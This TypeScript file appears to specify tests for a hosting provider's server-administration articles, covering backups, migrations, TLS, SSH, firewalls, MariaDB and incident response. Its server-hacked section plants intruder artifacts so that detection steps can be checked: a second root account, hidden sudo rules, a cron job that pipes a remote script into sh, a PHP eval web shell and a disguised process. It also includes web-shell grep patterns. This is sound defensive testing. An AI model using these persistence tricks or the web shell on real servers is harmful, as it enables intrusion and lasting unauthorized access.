/**
 * What the marked blocks need before them and what must hold after them, by page route and by the
 * id= of the block's fence meta; and the test value of every placeholder. See README.md.
 */
import type {PageSpec} from './plan';

/** Packages of the cached test root, beside those the marked steps install themselves. */
export const BASE_PACKAGES: readonly string[] = [
  // services and the programs that validate their configuration
  'nginx',
  'openssh-server',
  'openssh-client',
  'mariadb-server',
  'mariadb-client',
  'php8.2-fpm',
  'php8.2-cli',
  'cron',
  'sudo',
  'vsftpd',
  'bind9',
  'bind9-dnsutils',
  'systemd',
  'systemd-timesyncd',
  'logrotate',
  'netplan.io',
  // firewalls, network tools
  'ufw',
  'iptables',
  'nftables',
  'iproute2',
  'wireguard-tools',
  'qrencode',
  'iperf3',
  'ethtool',
  'mtr-tiny',
  'wakeonlan',
  'curl',
  'wget',
  'ca-certificates',
  'gnupg',
  // backups, archives, disks
  'rsync',
  'restic',
  'borgbackup',
  'tar',
  'gzip',
  'xz-utils',
  'zstd',
  'pv',
  'fdisk',
  'gdisk',
  'parted',
  'e2fsprogs',
  'util-linux',
  'ncdu',
  'lsof',
  // the rest the articles install or use
  'tzdata',
  'openssl',
  'ssl-cert',
  'procps',
  'python3',
  'git',
  'tmux',
  'smartmontools',
  'dmidecode',
  'memtester',
  'lshw',
  'nvme-cli',
  'vnstat',
  'mysqltuner',
  'unattended-upgrades',
];

/** Test values of the placeholders (<domain> → example.com). Other servers are this root's loopback. */
export const PLACEHOLDERS: Readonly<Record<string, string>> = {
  domain: 'example.com',
  subdomain: 'shop.example.com',
  ip: '127.0.0.1',
  new_ip: '127.0.0.1',
  'new-ip': '127.0.0.1',
  vps_ip: '127.0.0.1',
  dedic_ip: '127.0.0.1',
  'server-ip': '127.0.0.1',
  'your-ip': '198.51.100.7',
  'peer-lan-ip': '10.0.0.2',
  'lan-ip': '10.0.0.1',
  addr: '10.0.0.1',
  iface: 'eth0',
  main: 'eth0',
  prefix: '32',
  port: '3128',
  user: 'user',
  db: 'shop',
  db_name: 'shop',
  db_user: 'root',
  site_dir: '/var/www/example.com',
  site_user: 'www-data',
  password: 'Test-password-1',
  'db-password': 'Test-password-1',
  'root-password': 'Test-password-1',
  passphrase: 'Test passphrase 1',
  comment: 'test@example.com',
};

/** ufw is on and lets SSH in: the rules are loaded into this root's own network namespace. */
const sshStaysOpen = [
  {command: 'ufw status', prints: 'Status: active'},
  'ufw status | grep -Eq "^22/tcp +ALLOW( IN)? +Anywhere"',
  'iptables -S ufw-user-input | grep -q -- "--dport 22 -j ACCEPT"',
];
const firewall: PageSpec = {blocks: {firewall: {checks: sshStaysOpen}}};
/** A rule added to a running ufw: the new port is open and SSH still is. */
const firewallRule = (rule: string): PageSpec => ({
  blocks: {firewall: {fixtures: ['ufw-on'], checks: [...sshStaysOpen, `ufw status | grep -Eq ${JSON.stringify(rule)}`]}},
});

/** The dump holds the fixture database's table and rows. */
const dumpHasShop = (file: string, reader = 'cat') => `${reader} ${file} | grep -q "INSERT INTO \\\`orders\\\`"`;
/** A migration copies the site and the database to "the new server" (this root, over ssh to 127.0.0.1). */
const migration = (copy: string[], db: string[] = []): PageSpec => ({
  fixtures: ['www-site', 'mariadb', 'sshd-loopback'],
  blocks: {
    // A server with a Let's Encrypt certificate, as the pages' rsync of /etc/letsencrypt assumes.
    'copy-www': {
      before: ['mkdir -p /etc/letsencrypt/live/example.com'],
      checks: ['diff -r /var/www/example.com /var/www/example.com', ...copy],
    },
    ...(db.length || true ? {db: {checks: ['test "$(mariadb -Nse "SELECT COUNT(*) FROM shop.orders")" = 2', ...db]}} : {}),
  },
});
const archiveHas = (archive: string, ...paths: string[]) => [
  `gzip -t ${archive}`,
  ...paths.map((p) => `tar -tzf ${archive} | grep -qx ${JSON.stringify(p)}`),
];
/** sgdisk copied the healthy disk's GPT to the new one, with new GUIDs, and left the healthy one as it was. */
const diskCopied = [
  'sha256sum -c --quiet /tmp/sda.sum',
  'test "$(sgdisk -p /dev/sdb | grep -cE "^ +[0-9]+ ")" = 3',
  'test "$(sgdisk -p /dev/sda | grep "Disk identifier")" != "$(sgdisk -p /dev/sdb | grep "Disk identifier")"',
];
const lan: PageSpec = {placeholders: {iface: 'eth1'}};
/** ssh-keygen asks where to save the key (Enter: the default) and the passphrase twice. */
const keygen = {
  input: '\\nTest passphrase 1\\nTest passphrase 1\\n',
  checks: ['ssh-keygen -y -P "Test passphrase 1" -f /root/.ssh/id_ed25519 | grep -q "^ssh-ed25519 "', 'test -s /root/.ssh/id_ed25519.pub'],
};
const borgPassphrase = 'Test passphrase 1\n';

/** The server-hacked page's sshd settings check and its list of recent files in /usr that no package owns. */
const sshdKeysGrep =
  "grep -rEi '^[[:space:]]*(include|match|authorizedkeys|authorizedprincipals|trustedusercakeys)' /etc/ssh/sshd_config /etc/ssh/sshd_config.d/";
const usrUnowned =
  "find /usr -xdev -type f -ctime -7 ! -name '*.pyc' | sort | comm -23 - <(sed -E 's#^/(s?bin|lib)#/usr/\\1#' /var/lib/dpkg/info/*.list | sort -u)";

export const PAGES: Readonly<Record<string, PageSpec>> = {
  // Safety nets before a reinstall, a cancellation, a migration.
  '/services/os/reinstall': {
    fixtures: ['www-site', 'mariadb'],
    blocks: {
      // -p asks for the password; root logs in by its socket, the reader presses Enter.
      dump: {input: '\n', checks: [dumpHasShop('/root/all-databases.sql')]},
      // A reinstall erases the whole disk: the archive must hold the sites, the settings, the dump
      // and the users' home directories.
      archive: {
        checks: archiveHas(
          '/root/server-backup.tar.gz',
          'var/www/example.com/public/uploads/photo.jpg',
          'etc/nginx/nginx.conf',
          'root/all-databases.sql',
          'home/user/notes.txt',
        ),
      },
      fetch: {fixtures: ['sshd-loopback'], cwd: '/tmp/laptop', checks: ['cmp /tmp/laptop/server-backup.tar.gz /root/server-backup.tar.gz']},
    },
  },
  '/working-with-server/tech-questions/vps/os-reinstall': {
    fixtures: ['www-site', 'mariadb'],
    blocks: {
      dump: {checks: ['gzip -t /root/all-databases.sql.gz', dumpHasShop('/root/all-databases.sql.gz', 'zcat')]},
      archive: {
        checks: archiveHas(
          '/root/server-files.tar.gz',
          'var/www/example.com/public/uploads/photo.jpg',
          'etc/nginx/nginx.conf',
          'root/all-databases.sql.gz',
          'var/spool/cron/crontabs/root',
          'home/user/notes.txt',
        ),
      },
      fetch: {fixtures: ['sshd-loopback'], cwd: '/tmp/laptop', checks: ['cmp /tmp/laptop/server-files.tar.gz /root/server-files.tar.gz']},
    },
  },
  '/service-cancellation/server-cancel': {
    fixtures: ['www-site', 'mariadb'],
    blocks: {
      // One archive holds the dump, the settings, the sites and the users' home directories.
      dump: {
        checks: [
          dumpHasShop('/root/all-databases.sql'),
          ...archiveHas(
            '/var/tmp/server-files.tar.gz',
            'etc/nginx/nginx.conf',
            'root/all-databases.sql',
            'var/www/example.com/public/uploads/photo.jpg',
            'home/user/notes.txt',
          ),
        ],
      },
      fetch: {fixtures: ['sshd-loopback'], cwd: '/tmp/laptop', checks: ['cmp backup/server-files.tar.gz /var/tmp/server-files.tar.gz']},
    },
  },
  '/working-with-server/migrations/server-server/dedic-dedic': {
    fixtures: ['www-site', 'mariadb', 'sshd-loopback'],
    blocks: {
      'copy-www': {
        before: ['mkdir -p /etc/letsencrypt/live/example.com'],
        checks: ['test -f /root/old-server/etc/nginx/nginx.conf', 'test -f /var/www/example.com/public/uploads/photo.jpg'],
      },
      dump: {checks: ['gzip -t /root/shop.sql.gz', dumpHasShop('/root/shop.sql.gz', 'zcat')]},
      import: {checks: ['test "$(mariadb -Nse "SELECT COUNT(*) FROM shop.orders")" = 2']},
    },
  },
  '/working-with-server/migrations/server-server/dedic-vps': migration([]),
  '/working-with-server/migrations/server-server/fps-ml-evossd': migration([]),
  '/working-with-server/migrations/server-server/ovz-evo-evossd': migration(['diff -r /home /root/old-home']),
  '/working-with-server/migrations/server-server/vps-dedic': {
    ...migration(['test -f /etc/letsencrypt/live/example.com/fullchain.pem']),
    blocks: {
      ...migration([]).blocks,
      'copy-www': {
        before: ['mkdir -p /etc/letsencrypt/live/example.com && touch /etc/letsencrypt/live/example.com/fullchain.pem'],
        checks: ['test -f /etc/letsencrypt/live/example.com/fullchain.pem'],
      },
    },
  },
  // TLS: a CSR, certificates installed for nginx, the www redirect.
  '/services/ssl/csr': {
    blocks: {
      'key-mode': {checks: [{command: 'stat -c %a /etc/ssl/private/example.com.key', prints: '600'}]},
      show: {checks: ['openssl req -in /etc/ssl/private/example.com.csr -noout -text | grep -q "DNS:www.example.com"']},
    },
  },
  '/services/ssl/multidomain-subdomains': {
    blocks: {
      csr: {
        checks: ['openssl req -in example.com.csr -noout -text | grep -q "DNS:shop.example.com, DNS:mail.example.com, DNS:example.net"'],
      },
    },
  },
  '/services/ssl/with-www': {
    fixtures: ['tls-cert'],
    blocks: {reload: {checks: ['curl -sI -H "Host: www.example.com" http://127.0.0.1/ | grep -qi "^location: https://example.com/"']}},
  },
  '/services/ssl/wildcard-several-servers': {
    fixtures: ['tls-cert', 'nginx-running'],
    blocks: {
      // What the reader copied from the first server in the step before (scp).
      install: {
        before: ['cp /etc/ssl/private/example.com.key /etc/ssl/certs/example.com.crt /etc/ssl/certs/example.com.ca-bundle /root/'],
        checks: [
          {command: 'stat -c %a /etc/ssl/private/example.com.key', prints: '600'},
          'test ! -e /root/example.com.key',
          'openssl x509 -in /etc/ssl/certs/example.com.fullchain.crt -noout',
        ],
      },
      match: {
        cwd: '/root',
        before: ['cp /etc/ssl/private/example.com.key /etc/ssl/certs/example.com.crt /root/'],
        checks: [
          'test "$(openssl x509 -in example.com.crt -noout -pubkey | openssl sha256)" = "$(openssl pkey -in example.com.key -pubout | openssl sha256)"',
        ],
      },
    },
  },
  // Web server: a site, limits, PHP.
  '/working-with-server/tech-questions/domains/add': {
    blocks: {
      site: {path: '/etc/nginx/sites-available/example.com'},
      reload: {checks: [{command: 'curl -s -H "Host: www.example.com" http://127.0.0.1/', prints: 'It works'}]},
    },
  },
  '/working-with-server/tech-questions/ddos/protection': {
    placeholders: {ip: '203.0.113.50'},
    blocks: {
      'top-ips': {
        before: [
          'mkdir -p /var/log/nginx',
          'for i in 1 2 3; do echo "198.51.100.9 - - [23/Nov/2026:10:00:0$i +0000] \"GET /login HTTP/1.1\" 200 5 \"-\" \"x\""; done >>/var/log/nginx/access.log',
        ],
      },
      blocklist: {
        checks: [
          'nft list set inet ddos blocklist | grep -q 203.0.113.50',
          'nft list chain inet ddos input | grep -q "ip saddr @blocklist drop"',
        ],
      },
    },
  },
  '/working-with-server/tech-questions/php/max-filesize': {
    blocks: {
      ini: {
        checks: [
          {command: 'php-fpm8.2 -i', prints: 'upload_max_filesize => 100M => 100M'},
          {command: 'php-fpm8.2 -i', prints: 'post_max_size => 110M => 110M'},
        ],
      },
    },
  },
  // SSH: keys only, the SFTP jail.
  '/working-with-server/credentials/recommendations': {
    fixtures: ['ssh-running'],
    blocks: {
      keygen,
      hardening: {path: '/etc/ssh/sshd_config.d/00-hardening.conf'},
      effective: {
        checks: [
          {command: 'sshd -T', prints: 'passwordauthentication no'},
          {command: 'sshd -T', prints: 'permitrootlogin without-password'},
        ],
      },
    },
  },
  '/working-with-server/tech-questions/firewall': firewall,
  '/working-with-server/tech-questions/ftp': {
    fixtures: ['www-site', 'ssh-running'],
    placeholders: {user: 'sftpuser'},
    blocks: {
      user: {input: 'Test-password-1\nTest-password-1\n', checks: ['id -nG sftpuser | grep -qx sftponly']},
      restart: {
        checks: [
          {command: 'sshd -T -C user=sftpuser,host=laptop,addr=127.0.0.1', prints: 'chrootdirectory /var/www/site'},
          {command: 'sshd -T -C user=sftpuser,host=laptop,addr=127.0.0.1', prints: 'forcecommand internal-sftp'},
          {command: 'stat -c %U:%a /var/www/site', prints: 'root:755'},
        ],
      },
      firewall: {fixtures: ['ufw-on'], checks: [...sshStaysOpen, 'ufw status | grep -Eq "^40000:40100/tcp +ALLOW"']},
    },
  },
  // Disk space: logs, old backups.
  '/working-with-server/tech-questions/logs-or-backups': {
    blocks: {
      rule: {path: '/etc/logrotate.d/myapp'},
      rotate: {
        before: ['mkdir -p /var/log/myapp && seq 1000 >/var/log/myapp/app.log'],
        checks: ['test -s /var/log/myapp/app.log.1', 'test ! -s /var/log/myapp/app.log'],
      },
      // Only the copies older than 7 days go; this week's stay.
      'old-backups': {
        before: [
          'mkdir -p /backup && touch -d "-10 days" /backup/old.tar.gz && touch -d "-2 days" /backup/new.tar.gz && touch -d "-10 days" /backup/notes.txt',
        ],
        checks: ['test ! -e /backup/old.tar.gz', 'test -e /backup/new.tar.gz', 'test -e /backup/notes.txt'],
      },
    },
  },
  // MariaDB: import, options, slow queries.
  '/working-with-server/tech-questions/mysql/import-big-dump': {
    fixtures: ['mariadb', 'shop-dump'],
    placeholders: {db: 'imported'},
    blocks: {
      import: {checks: ['test "$(mariadb -Nse "SELECT COUNT(*) FROM imported.orders")" = 2']},
      'import-gz': {
        before: ['mariadb -e "DROP DATABASE imported; CREATE DATABASE imported"'],
        checks: ['test "$(mariadb -Nse "SELECT COUNT(*) FROM imported.orders")" = 2'],
      },
      'import-pv': {
        before: ['mariadb -e "DROP DATABASE imported; CREATE DATABASE imported"'],
        checks: ['test "$(mariadb -Nse "SELECT COUNT(*) FROM imported.orders")" = 2'],
      },
      packet: {path: '/etc/mysql/mariadb.conf.d/60-import.cnf'},
      restart: {checks: [{command: 'mariadb -Nse "SELECT @@max_allowed_packet"', prints: '268435456'}]},
      dump: {checks: ['gzip -t imported.sql.gz', 'zcat imported.sql.gz | grep -q "INSERT INTO \\`orders\\`"']},
    },
  },
  '/working-with-server/tech-questions/mysql/optimizing': {
    fixtures: ['mariadb'],
    blocks: {
      'slow-log': {path: '/etc/mysql/mariadb.conf.d/60-slow.cnf'},
      // (block 6, the restart: the slow log is on afterwards)
      // The log after "a day or two": a slow query, and a dozen other kinds of query logged at once
      // (mysqldumpslow -t 10 dies on fewer than 10 kinds: a test artefact, not the reader's case).
      slow: {
        before: [
          'mariadb -e "SELECT SLEEP(1.2)" >/dev/null',
          'mariadb -e "SET GLOBAL long_query_time = 0"',
          'for t in TABLES COLUMNS ENGINES PLUGINS SCHEMATA COLLATIONS CHARACTER_SETS STATISTICS VIEWS ROUTINES TRIGGERS EVENTS; do mariadb -e "SELECT COUNT(*) FROM information_schema.$t" >/dev/null; done',
          'mariadb -e "SET GLOBAL long_query_time = 1"',
        ],
        checks: [],
      },
      index: {checks: ['mariadb -Nse "SHOW INDEX FROM shop.orders" | grep -q idx_orders_customer']},
    },
  },
  '/working-with-server/tech-questions/no-space-left': {
    blocks: {
      binlogs: {fixtures: ['mariadb', 'binlog']},
      truncate: {
        fixtures: ['full-disk'],
        checks: ['test "$(df --output=avail -k /var/log | tail -1)" -gt 7000', 'test -e /var/log/nginx/access.log'],
      },
      deleted: {fixtures: ['deleted-open-file'], checks: []},
      'free-deleted': {checks: ['test "$(stat -L -c %s /proc/$(cat /run/holder.pid)/fd/3)" = 0']},
    },
    placeholders: {pid: '$(cat /run/holder.pid)', fd: '3'},
  },
  // The site the check script watches: example.com is this root's loopback, with a trusted
  // certificate valid for 90 days, served by openssl s_server on port 443.
  '/working-with-server/tech-questions/monitoring': {
    blocks: {
      script: {checks: ['bash -n /usr/local/bin/site-check', 'test -x /usr/local/bin/site-check']},
      try: {
        before: [
          'echo "127.0.0.1 example.com" >>/etc/hosts',
          'openssl req -x509 -newkey rsa:2048 -noenc -days 90 -subj /CN=example.com -addext subjectAltName=DNS:example.com -keyout /root/site.key -out /usr/local/share/ca-certificates/example.com.crt 2>/dev/null',
          'update-ca-certificates >/dev/null',
          '. /usr/local/lib/procedures/pids.sh',
          'openssl s_server -accept 127.0.0.1:443 -cert /usr/local/share/ca-certificates/example.com.crt -key /root/site.key -www -quiet </dev/null >/dev/null 2>&1 &',
          'echo $! >/run/site.pid && record_pid $!',
          'wait_for 10 curl -fsS -o /dev/null https://example.com/',
        ],
        checks: [
          'test -z "$(/usr/local/bin/site-check)"',
          'test ! -e /tmp/site-check-test',
          {
            command: 'STATE=/tmp/t DAYS=400 /usr/local/bin/site-check',
            prints: 'ПРОБЛЕМА: example.com — сертифікат спливає менш ніж за 400 днів або не читається',
          },
          // The site goes down: one message, then silence until it is back.
          'kill "$(cat /run/site.pid)" && /usr/local/bin/site-check | grep -q "^ПРОБЛЕМА: example.com — curl: (7) "',
          'test -z "$(/usr/local/bin/site-check)"',
        ],
      },
    },
  },
  // Swap: swapon is the host kernel's, so the stand-in checks what swapon checks (README.md).
  '/working-with-server/tech-questions/vps/swap': {
    blocks: {
      on: {checks: [{command: 'stat -c %a /swapfile', prints: '600'}, 'swapon --show | grep -q "^/swapfile "']},
      fstab: {checks: ['grep -qx "/swapfile none swap sw 0 0" /etc/fstab', 'swapon --show | grep -q "^/swapfile "']},
      remove: {checks: ['test ! -e /swapfile', '! grep -q swapfile /etc/fstab']},
    },
  },
  '/working-with-server/tech-questions/timezone': {
    blocks: {
      kyiv: {
        checks: [{command: 'readlink -f /etc/localtime', prints: '/usr/share/zoneinfo/Europe/Kyiv'}, 'date +%Z | grep -Eqx "EET|EEST"'],
      },
    },
  },
  '/working-with-server/tech-questions/crontab': {
    fixtures: ['www-site'],
    blocks: {
      service: {
        path: '/etc/systemd/system/backup.service',
        before: ['printf "#!/bin/bash\\ntrue\\n" >/root/backup.sh && chmod 700 /root/backup.sh'],
      },
      timer: {path: '/etc/systemd/system/backup.timer'},
    },
  },
  '/working-with-server/tech-questions/systemd-service': {
    blocks: {
      venv: {
        before: [
          "sudo -u bot mkdir -p /opt/bot/app && printf 'import os\\nprint(bool(os.environ.get(\"BOT_TOKEN\")))\\n' | sudo -u bot tee /opt/bot/app/bot.py >/dev/null && printf '# no dependencies\\n' | sudo -u bot tee /opt/bot/app/requirements.txt >/dev/null",
        ],
        checks: ['sudo -u bot /opt/bot/venv/bin/python -c "import sys; assert sys.prefix == \'/opt/bot/venv\'"'],
      },
      token: {checks: ["stat -c '%a %U' /etc/bot.env | grep -qx '600 root'"]},
      unit: {path: '/etc/systemd/system/bot.service'},
      remove: {checks: ['! id bot', '! test -e /opt/bot', '! test -e /etc/systemd/system/bot.service']},
    },
  },
  '/working-with-server/tech-questions/hosts': {
    blocks: {add: {checks: ['getent hosts www.example.com | grep -q "^127.0.0.1 "', 'getent hosts example.com | grep -q "^127.0.0.1 "']}},
  },
  '/services/os/why-debian': {
    blocks: {
      trixie: {
        checks: [
          'grep -q "^deb .* trixie main" /etc/apt/sources.list',
          '! grep -rq bookworm /etc/apt/sources.list /etc/apt/sources.list.d',
        ],
      },
    },
  },
  '/apps/wireguard': {
    blocks: {
      ...firewall.blocks,
      keys: {
        checks: [
          {command: 'stat -c %a /etc/wireguard/server.key', prints: '600'},
          'test "$(wg pubkey </etc/wireguard/server.key)" = "$(cat /etc/wireguard/server.pub)"',
          'test "$(wg pubkey </etc/wireguard/clients/laptop.key)" = "$(cat /etc/wireguard/clients/laptop.pub)"',
        ],
      },
    },
  },
  '/order/additional-ip/subnet': {
    blocks: {
      calc: {
        checks: [
          {
            command:
              'python3 -c "import ipaddress; n = ipaddress.ip_network(\'203.0.113.8/29\'); print(n.netmask, n.num_addresses, n[0], n[-1])"',
            prints: '255.255.255.248 8 203.0.113.8 203.0.113.15',
          },
        ],
      },
    },
  },
  '/working-with-server/abuse-processing': {
    fixtures: ['www-site'],
    blocks: {
      'recent-php': {checks: [{command: "find /var/www -name '*.php' -mtime -7 -print", prints: '/var/www/example.com/public/index.php'}]},
    },
  },
  // A compromised server: every check of the page must find what an intruder left (a second UID 0,
  // a sudo rule, a key of www-data, a cron job, units no package owns, a miner running deleted from
  // /dev/shm under a kernel thread's name, a web shell, a changed program), not merely run.
  '/troubleshooting/server-hacked': {
    fixtures: ['www-site'],
    blocks: {
      quick: {
        before: [
          'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd',
          "echo 'user ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/90-backup && chmod 440 /etc/sudoers.d/90-backup",
          'usermod -s /bin/bash www-data',
          "install -d -m 700 -o www-data -g www-data /var/www/.ssh && ssh-keygen -q -t ed25519 -N '' -C x@evil -f /tmp/evil",
          'install -m 600 -o www-data -g www-data /tmp/evil.pub /var/www/.ssh/authorized_keys',
          "echo '* * * * * curl -fsSL http://198.51.100.9/x.sh | sh' | crontab -u www-data -",
          "echo '@reboot root /usr/local/bin/.syslogd' >/etc/cron.d/syslogd",
          "printf '[Service]\\nExecStart=/usr/local/bin/.syslogd\\n' >/etc/systemd/system/dbus-helper.service",
          'cp /etc/systemd/system/dbus-helper.service /usr/lib/systemd/system/kthreadd-helper.service',
          'printf \'<?php @eval(base64_decode($_POST["x"])); ?>\\n\' >/var/www/example.com/public/uploads/cache.php',
          'touch -d 2023-01-01 /var/www/example.com/public/uploads/cache.php',
          'echo >>/usr/bin/pinky',
          'cp /bin/sleep /dev/shm/kswapd0',
          "(exec -a '[kworker/0:3]' /dev/shm/kswapd0 600 </dev/null >/dev/null 2>&1 &)",
          'sleep 0.5 && rm /dev/shm/kswapd0',
          // A login from 203.0.113.66 two days ago, and a failed one from 198.51.100.23.
          'when=$(date -u -d "2 days ago" +%Y-%m-%dT%H:%M:%S),000000+00:00',
          'echo "[7] [04242] [ts/0] [root    ] [pts/0       ] [203.0.113.66        ] [203.0.113.66   ] [$when]" | utmpdump -r >>/var/log/wtmp',
          'echo "[6] [04243] [    ] [admin   ] [ssh:notty   ] [198.51.100.23       ] [198.51.100.23  ] [$when]" | utmpdump -r >>/var/log/btmp',
        ],
        checks: [
          {command: "awk -F: '$3 == 0 {print $1}' /etc/passwd", prints: 'sysd'},
          'last -Fi -n 20 | grep -q "^root .*203\\.0\\.113\\.66"',
        ],
      },
      // Evidence goes to a new dated folder: a snapshot another article wrote to /root/incident stays.
      evidence: {
        before: ['mkdir -p /root/incident && echo earlier >/root/incident/ps.txt'],
        checks: [
          'grep -qx earlier /root/incident/ps.txt',
          'gzip -t /root/incident/*/var-log.tar.gz',
          'tar -tzf /root/incident/*/var-log.tar.gz | grep -qx var/log/dpkg.log',
          'tar -tzf /root/incident/*/var-log.tar.gz | grep -qx var/log/wtmp',
          'gzip -t /root/incident/*/persist.tar.gz',
          'tar -tzf /root/incident/*/persist.tar.gz | grep -qx var/spool/cron/crontabs/www-data',
          'tar -tzf /root/incident/*/persist.tar.gz | grep -qx var/www/.ssh/authorized_keys',
          'tar -tzf /root/incident/*/persist.tar.gz | grep -qx etc/sudoers.d/90-backup',
          'grep -q "/dev/shm/kswapd0 (deleted)" /root/incident/*/exe.txt',
          'grep -q 203.0.113.66 /root/incident/*/last.txt',
          'grep -q "kworker/0:3" /root/incident/*/ps.txt',
        ],
      },
      fetch: {
        fixtures: ['sshd-loopback'],
        cwd: '/tmp/laptop',
        checks: [
          'cmp /tmp/laptop/incident/*/var-log.tar.gz /root/incident/*/var-log.tar.gz',
          'grep -qx earlier /tmp/laptop/incident/ps.txt',
        ],
      },
      logins: {checks: ['last -Fi -n 30 | grep -q 203.0.113.66', 'lastb -Fi -n 30 | grep -q "^admin .*198\\.51\\.100\\.23"']},
      // An SSH session without a terminal, which only ss shows.
      sessions: {before: ['ssh -f root@127.0.0.1 sleep 60'], checks: [`ss -Htnp state established '( sport = :22 )' | grep -q '"sshd"'`]},
      // #include is a directive of sudoers, not a comment: the rule it pulls in must not hide.
      'root-users': {
        before: [
          "echo 'www-data ALL=(ALL) NOPASSWD: ALL' >/etc/.sudo-x && chmod 440 /etc/.sudo-x && echo '#include /etc/.sudo-x' >>/etc/sudoers",
          'visudo -c',
        ],
        checks: [
          {command: "awk -F: '$3 == 0 {print $1}' /etc/passwd", prints: 'sysd'},
          {
            command: "grep -Ev '^[[:space:]]*($|#($|[^i]))' /etc/sudoers /etc/sudoers.d/*",
            prints: '/etc/sudoers.d/90-backup:user ALL=(ALL) NOPASSWD: ALL',
          },
          {command: "grep -Ev '^[[:space:]]*($|#($|[^i]))' /etc/sudoers /etc/sudoers.d/*", prints: '/etc/sudoers:#include /etc/.sudo-x'},
          "! grep -Ev '^[[:space:]]*($|#($|[^i]))' /etc/sudoers /etc/sudoers.d/* | grep -q '# '",
          {command: "awk -F: '$7 !~ /(nologin|false|sync)$/ {print $1, $3, $6, $7}' /etc/passwd", prints: 'www-data 33 /var/www /bin/bash'},
        ],
      },
      keys: {
        before: ["printf 'Match User www-data\\n    AuthorizedKeysFile /var/tmp/.k\\n' >/etc/ssh/sshd_config.d/zz-backup.conf"],
        checks: [
          {
            command:
              'getent passwd | cut -d: -f1,6 | while IFS=: read -r user home; do for f in "$home/.ssh/authorized_keys" "$home/.ssh/authorized_keys2"; do if [ -f "$f" ]; then echo "== $user: $f"; ssh-keygen -lf "$f"; fi; done; done',
            prints: '== www-data: /var/www/.ssh/authorized_keys',
          },
          'ssh-keygen -lf /var/www/.ssh/authorized_keys | grep -q "x@evil (ED25519)"',
          // A Match block that sshd -T without -C would not show.
          {command: sshdKeysGrep, prints: '/etc/ssh/sshd_config:Include /etc/ssh/sshd_config.d/*.conf'},
          {command: sshdKeysGrep, prints: '/etc/ssh/sshd_config.d/zz-backup.conf:Match User www-data'},
          {command: sshdKeysGrep, prints: '/etc/ssh/sshd_config.d/zz-backup.conf:    AuthorizedKeysFile /var/tmp/.k'},
        ],
      },
      cron: {
        checks: [
          {
            command:
              "find /var/spool/cron/crontabs /etc/cron.d /etc/crontab -type f -exec grep -Hv -e '^[[:space:]]*#' -e '^[[:space:]]*$' {} +",
            prints: '/var/spool/cron/crontabs/www-data:* * * * * curl -fsSL http://198.51.100.9/x.sh | sh',
          },
          {
            command:
              'for f in /etc/cron.d/* /etc/cron.daily/*; do [ -e "$f" ] || continue; dpkg -S "$f" >/dev/null 2>&1 || echo "no package: $f"; done',
            prints: 'no package: /etc/cron.d/syslogd',
          },
        ],
      },
      units: {
        checks: [
          "find /etc/systemd/system -type f -printf '%CY-%Cm-%Cd %CH:%CM  %p\\n' | grep -q ' /etc/systemd/system/dbus-helper.service$'",
          {
            command:
              'for f in /usr/lib/systemd/system/*.service /usr/lib/systemd/system/*.timer; do dpkg -S "$f" >/dev/null 2>&1 || dpkg -S "${f#/usr}" >/dev/null 2>&1 || echo "no package: $f"; done',
            prints: 'no package: /usr/lib/systemd/system/kthreadd-helper.service',
          },
          // Units of packages (cron's is registered under /lib) are not reported.
          '! for f in /usr/lib/systemd/system/*.service /usr/lib/systemd/system/*.timer; do dpkg -S "$f" >/dev/null 2>&1 || dpkg -S "${f#/usr}" >/dev/null 2>&1 || echo "no package: $f"; done | grep -q /cron.service',
        ],
      },
      processes: {
        checks: [
          `for p in /proc/[0-9]*; do printf '%s %s\\n' "\${p#/proc/}" "$(readlink "$p/exe")"; done | grep -E '\\(deleted\\)|/tmp/|/var/tmp/|/dev/shm/' | grep -q '/dev/shm/kswapd0 (deleted)'`,
          `ps -eo pid,ppid,user,cmd | awk '$4 ~ /^\\[/ && $2 != 2 && $1 != 2' | grep -q 'kworker/0:3'`,
        ],
      },
      web: {
        checks: [
          {command: "find /var/www -path '*/uploads/*' -name '*.php'", prints: '/var/www/example.com/public/uploads/cache.php'},
          {
            command: "grep -rlE --include='*.php' 'eval\\((base64_decode|gzinflate|str_rot13)|eval\\(\\$_(POST|GET|REQUEST)' /var/www",
            prints: '/var/www/example.com/public/uploads/cache.php',
          },
          // The web shell's forged date hides it from -mtime, not from -ctime.
          "find /var/www -type f -ctime -7 -printf '%C+ %u %p\\n' | grep -q ' /var/www/example.com/public/uploads/cache.php$'",
        ],
      },
      // After an upgrade rewrites hundreds of files in /usr, the intruder's files are still listed.
      'system-files': {
        before: [
          'install -m 755 /bin/true /usr/local/bin/.syslogd',
          // What dpkg does to each file of an upgraded package, here to some 450 files of /usr/bin.
          `find /usr/bin -maxdepth 1 -type f -size -200k -exec sh -c 'cp -p "$1" "$1.dpkg-new" && mv "$1.dpkg-new" "$1"' _ {} ';'`,
        ],
        checks: [
          "find /etc /root /home /opt /tmp /var/tmp /dev/shm -xdev -type f -ctime -7 -printf '%C+ %p\\n' | sort | grep -q ' /etc/cron.d/syslogd$'",
          {command: usrUnowned, prints: '/usr/lib/systemd/system/kthreadd-helper.service'},
          {command: usrUnowned, prints: '/usr/local/bin/.syslogd'},
          `! ${usrUnowned} | grep -qx /usr/bin/ls`,
        ],
      },
      verify: {checks: [{command: 'dpkg --verify', prints: '??5??????   /usr/bin/pinky'}]},
    },
  },
  // Disk replacement in a RAID 1, on image files: the new disk gets the table, the healthy one is untouched.
  '/working-with-server/tech-questions/dedic/raid': {
    blocks: {
      label: {fixtures: ['two-disks'], checks: []},
      replicate: {checks: diskCopied},
      mbr: {
        before: ['bash /usr/local/lib/procedures/fixtures/two-disks.sh mbr'],
        checks: ['sha256sum -c --quiet /tmp/sda.sum', 'test "$(sfdisk -d /dev/sdb | grep -c "^/dev/sdb")" = 2'],
      },
    },
  },
  '/order/hdd/what-if-broken': {
    blocks: {
      replicate: {fixtures: ['two-disks'], checks: diskCopied},
      mbr: {
        before: ['bash /usr/local/lib/procedures/fixtures/two-disks.sh mbr'],
        checks: ['sha256sum -c --quiet /tmp/sda.sum', 'test "$(sfdisk -d /dev/sdb | grep -c "^/dev/sdb")" = 2'],
      },
    },
  },
  // Network: the LAN on a second interface (eth1), extra addresses in the server's own netplan file.
  '/working-with-server/lan/existing-more-than-two': lan,
  '/working-with-server/lan/existing-two-servers': lan,
  '/working-with-server/lan/new-more-than-two': lan,
  '/working-with-server/lan/new-two-servers': lan,
  '/working-with-server/lan/one-existing-and-new': lan,
  '/working-with-server/lan/several-existing-and-new': lan,
  '/order/additional-ip/how-to-order': {blocks: {netplan: {path: '/etc/netplan/50-cloud-init.yaml'}}},
